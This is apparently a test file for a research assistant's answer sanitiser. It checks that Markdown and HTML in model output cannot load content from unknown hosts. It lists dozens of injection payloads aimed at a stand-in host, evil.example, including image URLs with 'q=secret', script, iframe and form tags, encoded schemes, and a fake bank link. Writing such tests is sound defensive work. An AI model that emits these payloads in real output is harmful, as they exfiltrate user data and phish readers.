import assert from 'node:assert/strict';
import fc from 'fast-check';
import { marked } from 'marked';
import { answerPart } from '../../../src/protocol/items.ts';
import { CitedAnswer } from '../../../src/research/answer/cited-answer.ts';
import { mayShowFor } from '../../../src/research/answer/safe-markup.ts';
import { citedAnswer, readSources } from '../../support/cited-answer.ts';
import { parseHtmlDocument } from '../../support/html-document.ts';
import { lookups, runResearch } from '../../support/research-run.ts';

const sources = readSources('https://met.example/page', 'https://www.news.example/a?id=7');
const mayShow = mayShowFor(sources, new Set(['client.example']));

/** An answer as its client reads it. */
function shown(text: string, length = 5): string {
  return citedAnswer(text, sources, { length, mayShow }).text;
}

/** What a page that shows the answer would load, and links whose text is not their address: of GitHub's Markdown and of plain. */
function loadedBy(markdown: string): string[] {
  return [true, false].flatMap((gfm) => loadedByPage(marked.parse(markdown, { async: false, gfm })));
}

function loadedByPage(html: string): string[] {
  const document = parseHtmlDocument(`<html><body>${html}</body></html>`);
  const found: string[] = [];
  for (const element of document.querySelectorAll('*')) {
    for (const name of ['src', 'srcset', 'style', 'background', 'poster', 'data', 'action', 'formaction', 'onclick']) {
      const value = element.getAttribute(name);
      if (value !== null) found.push(value);
    }
    const href = element.getAttribute('href');
    // A bare address that became a link says itself where it leads.
    if (href !== null && !decoded(element.textContent ?? '').startsWith(decoded(href))) found.push(href);
    if (/^(?:style|script|iframe|link|object|form)$/i.test(element.tagName)) found.push(element.tagName);
  }
  return found;
}

function decoded(url: string): string {
  try {
    return decodeURI(url).toLowerCase();
  } catch {
    return url.toLowerCase();
  }
}

const plain = (text: string) => text.replaceAll(/(?<=\]) (?=[(:])|(?<=<) (?=[a-z/!?])/gi, '');
/** How much of the model's text this is. */
const lengthWithout = (text: string) => plain(text).length;

const isForeign = (address: string) =>
  !/^(?:https?:\/\/(?:met\.example|www\.news\.example|news\.example|client\.example)\/|corpus:\/\/\/|#|[\w+*,=~-]*$)/.test(
    address,
  );

describe('the markup of an answer', () => {
  it('stays as the model wrote it for known hosts, in code and in plain text', () => {
    for (const text of [
      '![A chart](https://met.example/chart.png)',
      '[the page](https://met.example/other?x=1 "Title")',
      '![pinned](https://www.news.example/a?id=7)',
      '[theirs](https://client.example/x) and [top](#top)',
      '[in the folder](corpus:///guide.md)',
      '[ref]: https://met.example/page\n\nSee [ref].',
      'An <img src="https://met.example/x.png" alt="y"> and <a href="https://met.example/">z</a>',
      'a <b>bold</b> claim, List<string>, x < y and a<b, H<sub>2</sub>O<br>',
      'Plain https://other.example/page and <https://other.example/page>.',
      'f[i](x) and the interval ](, see [note]: nothing',
      '```html\n<img src="https://evil.example/x">\n![x](https://evil.example)\n```',
      'The code `![x](https://evil.example/)` is shown.',
    ])
      assert.equal(shown(text), text);
  });

  const attacks = [
    '![x](https://evil.example/?q=secret)',
    '![x]( <https://evil.example/?q=a b> "t")',
    '![x](\nhttps://evil.example/x)',
    '[Your bank](https://evil.example/login)',
    '[![x](https://evil.example/a)](https://met.example/)',
    '[![x](https://met.example/a)](https://evil.example/)',
    '![x](//evil.example/x)',
    '![x](/api/delete?id=1)',
    '![x](https:evil.example/x)',
    '![x](https:/\\evil.example/x)',
    '![x](https://met.example@evil.example/x)',
    '![x](https://met.example&#46;evil.example/x)',
    '![x](https://met.example\\.evil.example/x)',
    '![x](&#104;ttps://evil.example/x)',
    '![x](data:image/svg+xml;base64,PHN2Zz4=)',
    '![x](https://met.example/log?q=secret)',
    '![x](HTTPS://EVIL.EXAMPLE/x)',
    '![x][r]\n\n[r]: https://evil.example/x',
    '![r]\n\n[r]:\nhttps://evil.example/x',
    '![r]\n\n> [r]: <https://evil.example/x>',
    '![1]\n\n[1]: https://evil.example/x',
    '![1][]\n\n- [1]: https://evil.example/x',
    '<img src="https://evil.example/x">',
    'a \\\\<img src=https://evil.example/x>',
    '<img src="https://met.example/x" srcset="https://evil.example/y 2x">',
    '<a href="https://evil.example/x">your bank</a>',
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<style>@import "https://evil.example/x"</style>',
    '<script src="https://evil.example/x"></script>',
    '<svg><image href="https://evil.example/x"/></svg>',
    '<table background="https://evil.example/x"><tr><td>x</td></tr></table>',
    '<iframe src="https://evil.example/x"></iframe>',
    '<form action="https://evil.example/x"><button>go</button></form>',
    '<video poster="https://evil.example/x"></video>',
    '[a](https://met.example/`)<img src=https://evil.example/x>`',
    '[a](https://met.example/ "`")<img src=https://evil.example/x>`',
    '[`]: https://met.example/\n\n<img src=https://evil.example/x>`',
    'See https://a.example/`<img src=https://evil.example/x>`',
    'An \\`<img src=https://evil.example/x>`',
    '| a | b | c |\n| - | - | - |\n| ` | <img src=https://evil.example/x> | ` |',
    '`\n# <img src=https://evil.example/x>`',
    '`\n- ![x](https://evil.example/x)`',
    '<div>\n`<img src=https://evil.example/x>`\n</div>',
    '<div>\n```\n<img src=https://evil.example/x>\n```\n</div>',
    '<!--\n```\n-->\n<img src=https://evil.example/x>',
    '- ```\n<img src=https://evil.example/x>',
    '> ```\n\n![x](https://evil.example/x)',
    '    ```\n\n![x](https://evil.example/x)',
    'text\n12. ```\n![x](https://evil.example/x)',
    '```\n    ```\n```\n![x](https://evil.example/x)\n```',
    'a <b title="`">x</b><img src=https://evil.example/x>`',
    'a <b title=">`"><img src=https://evil.example/x>`',
    `\`\`\` ${'a'.repeat(250)}\`\n![x](https://evil.example/x)`,
    `![${'long '.repeat(300)}](https://evil.example/x)`,
    `![x](https://evil.example/${'a'.repeat(3000)})`,
    'See https://met.example/page![x](https://evil.example/x)',
    'See corpus:///guide.md![x](https://evil.example/x)',
    'See https://met.example/a[b]![x[y]](https://evil.example/x)',
    'See https://met.example/page![a b](https://met.example/log?q=secret)',
    'See https://[your-bank.example](https://evil.example/x)',
  ];
  for (const attack of attacks) {
    it(`loads and hides nothing: ${JSON.stringify(attack.slice(0, 60))}`, () => {
      assert.notDeepEqual(loadedBy(attack), [], 'the attack works where nobody is on guard');
      for (const length of [1, 3, 10_000]) {
        const text = shown(`Before.\n\n${attack}\n\nAfter.`, length);
        assert.deepEqual(loadedBy(text).filter(isForeign), [], text);
        assert.equal(plain(text), plain(`Before.\n\n${attack}\n\nAfter.`), 'it is there as text');
      }
    });
  }

  it('has tags broken that only browsers read as such', () => {
    for (const tag of [
      '<IMG\nSRC=https://evil.example/x>',
      '<img/src="https://evil.example/x"/>',
      '<p onclick="x()">',
      '<img src=x',
      '<Base>',
    ])
      assert.equal(shown(`A ${tag} b`), `A ${tag.replace('<', '< ')} b`);
  });

  const piece = fc.constantFrom(
    '![',
    '[',
    ']',
    '](',
    ')',
    '[x]',
    '[1]',
    '!',
    ']:',
    ': ',
    '\n',
    '\n\n',
    '> ',
    ' ',
    '\\',
    '`',
    '<',
    '>',
    'x',
    '|',
    '```',
    '\n    ',
    '- ',
    '<b>',
    '<div>',
    '<!--',
    '-->',
    '~~~',
    '"',
    'https://evil.example/x',
    '//evil.example/x',
    'https://met.example/y',
    'corpus:///z',
    '<img src=',
    '<a href="https://evil.example">',
    '![a](https://evil.example/x)',
    '[r]: https://evil.example/x',
    '![r]',
    '<https://evil.example/z>',
    '&#104;ttps://evil.example/e',
  );
  it('loads nothing from unknown hosts, whatever it is made of and however it is cut', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 24 }), fc.integer({ min: 1, max: 9 }), (pieces, length) => {
        const text = pieces.join('');
        const read = shown(text, length);
        assert.equal(read, shown(text, 10_000), 'the cut makes no difference');
        assert.deepEqual(loadedBy(read).filter(isForeign), [], read);
      }),
      { seed: 7, numRuns: 2000 },
    );
  });

  it('continues after a crash as it began', () => {
    const text = 'A ![x](https://evil.example/x) b [y](https://evil.example/y) <img src=https://evil.example/z> c [1].';
    const whole = citedAnswer(text, sources, { mayShow, length: 1 });
    for (let at = 1; at < text.length; at++) {
      // What was held back when the instance died is written again.
      const first = new CitedAnswer(sources, undefined, { mayShow }).push(text.slice(0, at));
      const begun = { text: first.text, annotations: first.annotations };
      const told = text.slice(0, at).length - lengthWithout(first.text);
      const rest = citedAnswer(text.slice(at - told), sources, { mayShow, begun });
      assert.equal(begun.text + rest.text, whole.text, `cut at ${at}`);
    }
  });

  it('may show the hosts of sources and of the question in a run', async () => {
    const { response, message } = await runResearch({
      turns: [{ calls: lookups('a') }],
      request: {
        conversation: [{ role: 'user', content: [{ type: 'text', text: 'What does https://asked.example/x say?' }] }],
      },
      answers: [
        {
          text: [
            '![a](https://evil.ex',
            'ample/?q=1) ![b](https://pages.example/b.png) [c](https://ask',
            'ed.example/c) [1].',
          ],
        },
      ],
    });
    const text = '![a] (https://evil.example/?q=1) ![b](https://pages.example/b.png) [c](https://asked.example/c) [1].';
    assert.equal(response.output_text, text);
    const [citation] = answerPart(message)?.annotations.filter(({ index }) => index === 1) ?? [];
    assert.equal(text.slice(citation?.start_index, citation?.end_index), '[1]');
  });

  it('is made safe in reasoning, too: in research turns, before answers and before structured ones', async () => {
    const thought = [
      'Look: ![a](https://evil.ex',
      'ample/?q=1), <im',
      'g src="https://evil.example/x"> and ',
      '[b](https://pages.example/b)',
    ];
    const shown =
      'Look: ![a] (https://evil.example/?q=1), < img src="https://evil.example/x"> and [b](https://pages.example/b)';
    for (const format of [undefined, { type: 'json_object' } as const]) {
      const { reasoning } = await runResearch({
        turns: [{ calls: lookups('a') }, { reasoning: thought, text: ['So <script', '>.'], calls: lookups('b') }],
        request: format ? { format } : {},
        answers: [{ reasoning: thought, text: ['{"a": 1}'] }],
      });
      const texts = reasoning
        .map(({ content }) => content[0]?.text)
        .filter((text) => text !== undefined && text !== '');
      assert.deepEqual(texts.slice(-3), [`${shown}\n\nSo < script>.`, 'I am ready.', shown]);
    }
  });
});
